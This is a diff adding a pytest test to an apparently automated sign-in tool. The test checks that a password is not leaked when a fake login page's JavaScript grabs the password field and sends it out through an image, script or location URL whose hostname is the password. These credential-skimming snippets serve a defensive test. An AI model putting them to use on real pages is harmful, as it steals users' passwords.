@@ -190,6 +190,35 @@ def test_the_same_page_without_a_trick_is_signed_in_to(flows: Flows, place: Plac
     assert not find(place.other.log, [SECRET])
 
 
+@pytest.mark.parametrize(
+    "way",
+    [
+        "new Image().src = ",
+        "document.head.append(document.createElement('script')); document.head.lastChild.src = ",
+        "location = ",
+    ],
+)
+def test_a_password_in_the_name_of_a_host_is_not_told_to_anybody(
+    flows: Flows, place: Place, way: str
+) -> None:
+    """Names of hosts have no capitals, and so it is not the very password any more."""
+    secret = "Tricky7Host9Name"
+    take = f"const taken = p.value; f.remove(); {way}`http://${{taken}}.localhost:1/x`"
+    place.named.pages["/login"] = sign_in(script=f"f.onsubmit = it => {{ it.preventDefault(); {take} }}")
+    done = flows(
+        "accounts",
+        settings={
+            "FLOWS_WEBMAIL_URL": place.named.url(),
+            "FLOWS_ADMIN_URL": place.named.url("/login"),
+            "FLOWS_ADMIN_USER": "root@example.jp",
+            "FLOWS_ADMIN_PASSWORD": secret,
+            "FLOWS_TIMEOUT": "4",
+        },
+    )
+    assert done.returncode in (3, 5), done.stderr
+    assert secret.lower() not in (done.stdout + done.stderr).lower()
+
+
 def test_a_name_with_a_comma_in_it_opens_nothing_else() -> None:
     """Commas are legal in a host's name, and part the rules of a wall."""
     asked = SimpleNamespace(url="https://x,.jp/library.js", resource_type="script", method="GET")
